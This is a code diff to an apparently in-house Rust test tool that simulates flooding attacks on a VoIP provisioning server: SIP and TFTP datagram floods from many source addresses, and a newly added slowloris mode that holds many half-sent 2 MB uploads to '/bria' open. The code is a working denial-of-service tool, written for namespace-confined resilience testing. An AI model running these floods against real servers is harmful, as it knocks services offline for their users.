@@ -1,13 +1,19 @@
-//! `flood sip|tftp HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...`: what a flooding
+//! `flood sip|tftp HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...` and
+//! `flood slow-http HOST:PORT SECONDS CONNECTIONS_PER_SOURCE SOURCE_IP...`: what a flooding
 //! attacker does, for tests in a network namespace only (it stops by itself and sends
-//! nowhere but HOST:PORT). One socket per source address, taking turns, paced to the total
-//! rate:
+//! nowhere but HOST:PORT). For the datagram floods, one socket per source address, taking
+//! turns, paced to the total rate:
 //! - `sip`: REGISTER, OPTIONS and INVITE without credentials, for made-up users, each with a
 //!   fresh Call-ID and branch (what a scanner sends, and what a server must parse);
 //! - `tftp`: read requests for a phone's file that are never acknowledged (every one starts
 //!   a transfer the server retransmits).
 //!
 //! Replies are read and counted but never answered. Prints `sent N received M rate R/s`.
+//!
+//! `slow-http` opens that many connections from each source, each starting a 2 MB upload
+//! to `/bria` (the form the provisioning server reads), sending half of it at once and then
+//! a byte a second ("slowloris"). Prints `held H of N`: the
+//! connections the server still had open at the end.
 
 use std::net::{IpAddr, SocketAddr, UdpSocket};
 use std::time::{Duration, Instant};
@@ -47,6 +53,9 @@ fn main() {
     let pps: f64 = args.get(3).and_then(|a| a.parse().ok()).expect(usage);
     let sources: Vec<IpAddr> = args[4..].iter().map(|a| a.parse().expect(usage)).collect();
     assert!(!sources.is_empty(), "{usage}");
+    if kind == "slow-http" {
+        return slow_http(to, seconds, pps as usize, &sources);
+    }
     let socks: Vec<(UdpSocket, SocketAddr)> = sources
         .iter()
         .map(|ip| {
@@ -90,4 +99,51 @@ fn main() {
         "sent {sent} received {received} rate {:.0}/s",
         sent as f64 / took
     );
+}
+
+/// Opens `each` trickling uploads from every source; prints how many were still open after
+/// `seconds`.
+fn slow_http(to: SocketAddr, seconds: f64, each: usize, sources: &[IpAddr]) {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .expect("a runtime");
+    let held = rt.block_on(async {
+        let mut tasks = Vec::new();
+        for ip in sources {
+            for _ in 0..each {
+                let ip = *ip;
+                tasks.push(tokio::spawn(async move {
+                    let sock = tokio::net::TcpSocket::new_v4().ok()?;
+                    sock.bind((ip, 0).into()).ok()?;
+                    let mut s = sock.connect(to).await.ok()?;
+                    let head = format!(
+                        "POST /bria HTTP/1.1\r\nHost: {}\r\n\
+                         Content-Type: application/x-www-form-urlencoded\r\n\
+                         Content-Length: 2000000\r\n\r\n",
+                        to.ip()
+                    );
+                    s.write_all(head.as_bytes()).await.ok()?;
+                    s.write_all(&[b'x'; 1_000_000]).await.ok()?;
+                    let end = tokio::time::Instant::now() + Duration::from_secs_f64(seconds);
+                    let mut b = [0u8; 512];
+                    while tokio::time::Instant::now() < end {
+                        s.write_all(b"x").await.ok()?;
+                        let read = tokio::time::timeout(Duration::from_secs(1), s.read(&mut b));
+                        if let Ok(Ok(0) | Err(_)) = read.await {
+                            return None;
+                        }
+                    }
+                    Some(())
+                }));
+            }
+        }
+        let mut held = 0;
+        for t in tasks {
+            held += usize::from(matches!(t.await, Ok(Some(()))));
+        }
+        held
+    });
+    println!("held {held} of {}", each * sources.len());
 }
